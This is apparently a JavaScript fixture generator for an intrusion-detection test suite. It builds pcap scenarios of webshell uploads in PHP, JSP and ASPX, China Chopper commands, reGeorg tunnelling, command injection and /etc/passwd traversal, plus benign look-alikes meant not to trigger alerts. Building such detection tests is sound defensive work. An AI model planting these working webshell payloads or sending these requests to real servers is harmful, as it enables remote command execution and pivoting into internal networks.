/** Webshells: upload and use, reGeorg; replies that are a command's output. */
import { blocked, html, json, noise, notFound, text } from './answers.mjs';

const ID = 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n';
const form = (path, body) => [path, '-X', 'POST', '-H', 'Content-Type: application/x-www-form-urlencoded', '--data-binary', body];
const upload = (path, filename, content, type = 'application/octet-stream', field = 'file') => [path, '-X', 'POST', '-H', 'Content-Type: multipart/form-data; boundary=----WebKitFormBoundary7MA4',
  '--data-binary', `------WebKitFormBoundary7MA4\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n------WebKitFormBoundary7MA4\r\nContent-Disposition: form-data; name="submit"\r\n\r\nUpload\r\n------WebKitFormBoundary7MA4--\r\n`];

const up = 'webshell/webshell-upload/';
const jsp = '<%if("023".equals(request.getParameter("pwd"))){java.io.InputStream in=Runtime.getRuntime().exec(request.getParameter("i")).getInputStream();int a=-1;byte[] b=new byte[2048];out.print("<pre>");while((a=in.read(b))!=-1){out.println(new String(b));}out.print("</pre>");}%>';
const aspx = '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>';
const uploadScenarios = [
  { file: `${up}php-stored.pcap`, answer: (q) => (q.method === 'POST' ? json({ code: 1, url: '/uploads/20191018/a.php' }) : text(ID)), requests: [upload('/upload.php', 'a.php', "GIF89a<?php @eval($_POST['cmd']);?>", 'image/gif'), ['/uploads/20191018/a.php?cmd=id']] },
  { file: `${up}jsp-stored.pcap`, port: 8080, answer: () => html('上传成功: /files/2019/logo.jspx'), requests: [upload('/fileUpload.do', 'logo.jspx', jsp)] },
  { file: `${up}aspx-stored.pcap`, answer: () => json({ state: 'SUCCESS', url: 'upload/x.aspx' }), requests: [upload('/ueditor/net/controller.ashx?action=uploadfile', 'x.aspx;.jpg', aspx, 'image/jpeg', 'upfile')] },
  { file: `${up}refused.pcap`, answer: () => json({ code: 0, msg: '不允许的文件类型' }), requests: [upload('/upload.php', 'b.phtml', '<?php system($_GET["c"]); ?>'), upload('/upload.php', 'b.php5', '<?=`$_GET[0]`?>')] },
  { file: `${up}blocked.pcap`, answer: blocked, requests: [upload('/upload.jsp', 's.jsp', jsp, 'image/png')] },
  { file: `${up}miss-uploads.pcap`, answer: () => json({ code: 0, url: '/files/1' }), client: '10.42.3.57',
    requests: [upload('/upload', '照片.jpg', `\xff\xd8\xff\xe0${noise(600, 3).toString('base64')}`, 'image/jpeg'), upload('/upload', 'php教程.docx', 'PK\x03\x04 how to write <?php echo 1; ?>'),
      upload('/upload', 'index.php.txt', 'rename this file to index.php'), form('/cms/save', `title=webshell&body=${encodeURIComponent('<p>攻击者上传 a.php：&lt;?php @eval($_POST[1]);?&gt; <?php @eval($_POST[1]);?></p>')}`)] },
];

const chopper = 'webshell/china-chopper/';
const z0 = (code) => Buffer.from(`@ini_set("display_errors","0");@set_time_limit(0);@set_magic_quotes_runtime(0);echo("->|");${code};echo("|<-");die();`).toString('base64');
const chopperScenarios = [
  { file: `${chopper}php.pcap`, answer: () => html('->|/var/www/html\t/\tLinux web 4.9.0 x86_64(www-data)|<-'), requests: [form('/images/x.php', `pass=@eval(base64_decode($_POST[z0]));&z0=${encodeURIComponent(z0('$D=dirname($_SERVER["SCRIPT_FILENAME"]);echo $D'))}`), form('/images/x.php', `pass=%40eval%01%28base64_decode%28%24_POST%5Bz0%5D%29%29%3B&z0=${encodeURIComponent(z0('$p=base64_decode($_POST["z1"]);@system($p)'))}&z1=L2Jpbi9zaA%3D%3D&z2=Y2QgIi92YXIvd3d3Ijt3aG9hbWk%3D`)] },
  { file: `${chopper}php-array-map.pcap`, answer: () => html('->|./\t2019-10-01 10:00:00\t4096\t0777\n|<-'), requests: [form('/up/1.php', `cmd=array_map("ass"."ert",array("ev"."Al(\\"\\\\\\$xx%3D\\\\\\"Ba"."SE6"."4_dEc"."OdE\\\\\\";@ev"."al(\\\\\\$xx('${Buffer.from('@ini_set("display_errors","0");echo "->|";echo "|<-";').toString('base64')}'));\\");"));`)] },
  { file: `${chopper}asp.pcap`, answer: () => html('->|C:\\inetpub\\wwwroot\tC:D:|<-'), requests: [form('/a.asp', 'pass=Execute("Execute(""On+Error+Resume+Next:Function+bd%28byVal+s%29:For+i%3D1+To+Len%28s%29+Step+2:c%3DMid%28s%2Ci%2C2%29:Next:End+Function:Response.Write%28""""->|""""%29:Response.Write%28""""|<-""""%29:Response.End""")")')] },
  { file: `${chopper}jsp.pcap`, port: 8080, answer: () => html('->|/usr/local/tomcat/webapps/ROOT\t/|<-'), requests: [form('/x.jsp', 'pass=A&z0=UTF-8&z1=&z2='), form('/x.jsp', 'pass=M&z0=GB2312&z1=%2Fc%2Fbin%2Fsh&z2=cd+%22%2Ftmp%22%3Bid')] },
  { file: `${chopper}gone.pcap`, answer: notFound, requests: [form('/images/x.php', `c=@eval(base64_decode($_POST[z0]));&z0=${encodeURIComponent(z0('phpinfo()'))}`)] },
  { file: `${chopper}miss-forms.pcap`, answer: () => html('<p>共 3 条 -> 下一页 | 首页 <-</p>'), client: '10.42.3.57', requests: [form('/save.php', `pass=secret&z0=12&data=${encodeURIComponent(Buffer.from('普通内容 ini settings').toString('base64'))}`), form('/map', 'z0=3&z1=4&z2=5&mode=A'), form('/cms/save', 'text=the+chopper+answers+between+->%7C+and+%7C<-+and+calls+base64_decode')] },
];

const regeorg = 'webshell/regeorg-tunnel/';
const tunnelAnswer = (q) => (q.method === 'GET' ? html("Georg says, 'All seems fine'") : [200, { 'X-STATUS': 'OK', 'Content-Type': 'application/octet-stream' }, q.url.includes('READ') ? noise(80, 4) : '']);
const cmd = (name, ...more) => [`/tunnel.jsp?cmd=${name.toLowerCase()}`, '-X', 'POST', '-H', `X-CMD: ${name}`, ...more];
const regeorgScenarios = [
  { file: `${regeorg}connected.pcap`, port: 8080, answer: tunnelAnswer, requests: [['/tunnel.jsp'], cmd('CONNECT', '-H', 'X-TARGET: 10.42.1.20', '-H', 'X-PORT: 3389', '-H', 'Content-Length: 0'), cmd('FORWARD', '-H', 'Content-Type: application/octet-stream', '--data-binary', 'abc'), cmd('READ', '-H', 'Content-Length: 0'), cmd('DISCONNECT', '-H', 'Content-Length: 0')] },
  { file: `${regeorg}gone.pcap`, port: 8080, answer: notFound, requests: [cmd('CONNECT', '-H', 'X-TARGET: 10.42.1.20', '-H', 'X-PORT: 22', '-H', 'Content-Length: 0')] },
  { file: `${regeorg}miss-custom-headers.pcap`, port: 8080, answer: () => json({ text: 'The poet Georg says little.' }), client: '10.42.3.57', requests: [['/api/target', '-H', 'X-TARGET: printer'], ['/api/poem'], ['/api/cmd', '-X', 'POST', '-H', 'X-CMD: refresh', '--data-binary', '{}']] },
];

const output = 'shell/command-output-reply/';
const outputScenarios = [
  { file: `${output}unix-id.pcap`, answer: () => html(`<pre>${ID}</pre>`), requests: [['/ping.php?host=127.0.0.1%3Bid']] },
  { file: `${output}windows-banner.pcap`, answer: () => text('Microsoft Windows [\xb0\xe6\xb1\xbe 6.1.7601]\r\n\r\nC:\\inetpub\\wwwroot>whoami\r\nnt authority\\system\r\n'), requests: [form('/api/tool', 'x=whoami')] },
  { file: `${output}passwd-file.pcap`, answer: () => text('root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\n'), requests: [['/download?file=../../../../etc/passwd']] },
  { file: `${output}miss-documentation.pcap`, answer: (q) => (q.url === '/man/id' ? html(`<!DOCTYPE html><html><head><title>id(1)</title></head><body>${'<p>The id command prints user and group identities.</p>'.repeat(60)}<pre>$ id\nuid=0(root) gid=0(root) groups=0(root)</pre>${'<p>See also getent(1), groups(1) and the passwd file format.</p>'.repeat(60)}</body></html>`)
    : html(`<!DOCTYPE html><html><body>${'<p>每一行有七个字段，用冒号分隔。</p>'.repeat(80)}<pre>root:x:0:0:root:/root:/bin/bash</pre></body></html>`)), client: '10.42.3.57', requests: [['/man/id'], ['/wiki/passwd']] },
];

export default [...uploadScenarios, ...chopperScenarios, ...regeorgScenarios, ...outputScenarios];
